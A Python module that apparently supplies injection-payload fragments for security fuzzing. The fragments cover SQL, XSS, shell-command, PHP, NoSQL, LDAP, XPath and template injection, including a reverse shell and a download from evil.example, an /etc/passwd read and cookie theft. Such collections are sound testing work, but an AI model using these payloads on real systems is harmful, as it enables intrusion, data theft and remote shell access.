"""Pieces of what ends its place in a query, a page, a filter or a command, and goes on as code."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

Pieces = Sequence[Sequence[str]]

SQL: Final[Sequence[Pieces]] = (
    (("1", "x'", 'x"', "1)"), (" or ", "/**/or/**/", " || "), ("1=1", "'a'='a", "2>1"), ("", "-- ", "#")),
    (
        ("-1", "x'", "1')"),
        (" union select ", "/**/union/**/all/**/select/**/"),
        ("null,null", "password from users", "@@version"),
        ("-- ", "#"),
    ),
    (
        ("1", "x'"),
        ("; drop table users", "; exec xp_cmdshell('dir')", " and sleep(5)", " and extractvalue(1,version())"),
        ("", "-- "),
    ),
)
SCRIPTS: Final[Sequence[Pieces]] = (
    (("", '">', "'>"), ("<script>", "<script src=//evil.example>"), ("alert(1)", "fetch('/x')"), ("</script>",)),
    (
        ("", '">'),
        ("<img src=x ", "<svg ", "<body ", "<details open "),
        ("onerror=", "onload=", "ontoggle="),
        ("alert(1)>", "eval(name)>"),
    ),
    (("javascript:", "java\tscript:", "data:text/html,<script>"), ("alert(1)", "alert(document.cookie)"), ("",)),
)
COMMANDS: Final[Sequence[Pieces]] = (
    (
        ("", "127.0.0.1", "x'"),
        (";", " | ", " && ", "\n", "`", "$("),
        ("cat /etc/passwd", "id", "wget http://evil.example/x", "nc -e /bin/sh evil.example 4444", "whoami"),
        ("", "`", ")", "#"),
    ),
)
PHP: Final[Sequence[Pieces]] = (
    (("<?php ", "<?= "), ("system(", "eval(", "passthru("), ("$_GET[1])", "'id')"), (" ?>",)),
)
NOSQL: Final[Sequence[Pieces]] = (
    (('{"', "{'"), ("$ne", "$gt", "$where", "$regex"), ('": ', "': "), ("1}", '""}', "'this.a==1'}")),
    (("'", '"'), (" || ", "; return "), ("1==1", "true", "this.password.match(/a/)"), ("//", "")),
)
LDAP: Final[Sequence[Pieces]] = (
    (("*", "x", "admin"), (")(", "))("), ("uid=*", "|(uid=*", "&(objectClass=*"), (")", "))", "")),
)
XPATH: Final[Sequence[Pieces]] = (
    (("x'", 'x"'), (" or ", "] | "), ("'1'='1", "//user/*", "count(//*)>0", "name()='a"), ("",)),
)
TEMPLATES: Final[Sequence[Pieces]] = (
    (
        ("{{", "${", "<%= ", "#{", "*{"),
        ("7*7", "config.items()", "self.__init__.__globals__", "T(java.lang.Runtime).getRuntime().exec('id')"),
        ("}}", "}", " %>"),
    ),
)

INJECTIONS: Final = {
    "SQL injection": SQL,
    "scripts": SCRIPTS,
    "commands": COMMANDS,
    "PHP code": PHP,
    "NoSQL operators": NOSQL,
    "LDAP filters": LDAP,
    "XPath": XPATH,
    "templates": TEMPLATES,
}
